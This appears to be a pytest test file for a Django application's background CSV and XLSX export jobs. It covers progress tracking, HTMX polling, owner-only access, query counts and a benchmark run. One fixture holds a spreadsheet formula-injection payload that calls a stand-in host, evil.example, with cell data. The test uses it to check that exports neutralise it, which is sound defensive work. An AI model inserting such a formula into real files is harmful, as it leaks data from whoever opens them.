"""Large exports are built in the background with progress, and only their owner gets them."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from demo.factories.calls import ApplicationFactory, CallFactory
from demo.factories.core import OrganisationFactory, make_staff
from ess_metro import export_jobs
from ess_metro.models import ExportJob
from projects.models import ApplicationStatus

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'


@pytest.fixture
def files(db, settings):
    settings.EXPORT_SYNC_MAX_ROWS = 2
    call = CallFactory(rules=False)
    organisation = OrganisationFactory(name=HOSTILE)
    return ApplicationFactory.create_batch(
        3, call=call, organisation=organisation, status=ApplicationStatus.SUBMITTED
    )


def _export(client, kind):
    return client.get(reverse("projects:staff_application_list"), {"export": kind})


@pytest.fixture
def job(files, staff, staff_client):
    response = _export(staff_client, "csv")
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == job.get_absolute_url()
    return job


def test_a_large_csv_export_is_built_in_the_background(job, staff, staff_client):
    assert (job.owner, job.kind, job.file_format, job.rows_total) == (
        staff,
        "applications",
        "csv",
        3,
    )
    assert job.state == ExportJob.READY and job.rows_done == 3
    page = staff_client.get(job.get_absolute_url()).content.decode()
    assert "Prêt" in page and "3 sur 3 lignes écrites." in page
    assert "data-hx-trigger" not in page  # nothing left to poll
    download = reverse("export_job_download", args=[job.pk])
    assert f'href="{download}"' in page
    response = staff_client.get(download)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 4
    assert rows[1][3] == "'" + HOSTILE  # neutralised like every export


def test_a_large_xlsx_export_keeps_the_filters(files, staff_client):
    ApplicationFactory.create_batch(3, call=files[0].call, status=ApplicationStatus.GRANTED)
    response = staff_client.get(
        reverse("projects:staff_application_list"), {"export": "xlsx", "status": "granted"}
    )
    job = ExportJob.objects.get()
    assert job.params == {"status": ["granted"]}
    assert response.status_code == 302
    body = staff_client.get(reverse("export_job_download", args=[job.pk])).getvalue()
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.max_row == 4  # the header and the three granted files


def test_a_small_export_is_answered_at_once(files, staff_client, settings):
    settings.EXPORT_SYNC_MAX_ROWS = 3
    response = _export(staff_client, "csv")
    assert response.status_code == 200
    assert not ExportJob.objects.exists()


def test_progress_is_recorded_while_rows_are_written(job, monkeypatch):
    monkeypatch.setattr(export_jobs, "PROGRESS_EVERY", 2)
    ExportJob.objects.filter(pk=job.pk).update(rows_done=0)
    seen = []
    for row in export_jobs._counted(job.pk, iter([["a"], ["b"], ["c"], ["d"], ["e"]])):
        seen.append((row[0], ExportJob.objects.get(pk=job.pk).rows_done))
    assert seen == [("a", 0), ("b", 2), ("c", 2), ("d", 4), ("e", 4)]
    assert ExportJob.objects.get(pk=job.pk).rows_done == 5


def _pending(owner) -> ExportJob:
    return ExportJob.objects.create(
        owner=owner, kind="applications", file_format="csv", filename="x.csv", rows_total=10
    )


def test_a_pending_job_is_polled_with_htmx_and_refreshed_without(staff, staff_client):
    pending = _pending(staff)
    page = staff_client.get(pending.get_absolute_url()).content.decode()
    assert 'data-hx-trigger="every 2s"' in page
    assert f'href="{pending.get_absolute_url()}"' in page  # without JavaScript: a link
    assert "En attente" in page
    partial = staff_client.get(pending.get_absolute_url(), HTTP_HX_REQUEST="true")
    assert partial.content.decode().lstrip().startswith('<div id="export-job"')
    download = staff_client.get(reverse("export_job_download", args=[pending.pk]))
    assert download.status_code == 404


ROLES = ["anonymous", "applicant", "other_applicant", "committee", "staff"]


@pytest.mark.parametrize("role", ROLES)
def test_only_the_owner_reaches_a_job(role, job, role_clients):
    urls = [job.get_absolute_url(), reverse("export_job_download", args=[job.pk])]
    for url in urls:
        response = role_clients[role].get(url)
        if role == "anonymous":
            assert response.status_code == 302 and "/compte/" in response["Location"]
        elif role == "staff":
            assert response.status_code == 200
            response.close()
        else:
            assert response.status_code == 404


def test_another_staff_member_gets_a_404(job):
    from django.test import Client

    client = Client()
    client.force_login(make_staff())
    assert client.get(job.get_absolute_url()).status_code == 404
    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404
    assert job.filename not in client.get(reverse("export_jobs")).content.decode()


@pytest.mark.parametrize("role", ROLES)
def test_my_exports_per_role(role, role_clients):
    response = role_clients[role].get(reverse("export_jobs"))
    if role == "anonymous":
        assert response.status_code == 302
    else:
        assert response.status_code == 200
        assert "Mes exports" in response.content.decode()


def test_my_exports_query_count_is_pinned(staff, staff_client, django_assert_num_queries):
    _pending(staff)
    staff_client.get(reverse("export_jobs"))
    # session, user, the role checks of the header, the count, the page.
    with django_assert_num_queries(5) as one:
        staff_client.get(reverse("export_jobs"))
    for _ in range(30):
        _pending(staff)
    with django_assert_num_queries(len(one.captured_queries)):
        response = staff_client.get(reverse("export_jobs"), {"page": 2})
    assert response.status_code == 200


def test_an_unknown_export_is_refused(staff):
    from django.http import QueryDict

    with pytest.raises(ValueError):
        export_jobs.start_export(
            user=staff,
            kind="nothing",
            file_format="csv",
            params=QueryDict(),
            filename="x.csv",
            rows_total=1,
        )


def test_the_export_benchmark_runs_small(db):
    """The smoke run of ``tools/bench_exports.py`` (``make bench`` calls ``run``)."""
    from tools.bench_exports import report, run

    figures = run(5, kinds=("csv", "xlsx", "csv-job", "xlsx-job"))
    assert {values["rows"] for values in figures.values()} == {5}
    assert "XLSX-JOB" in report(figures)
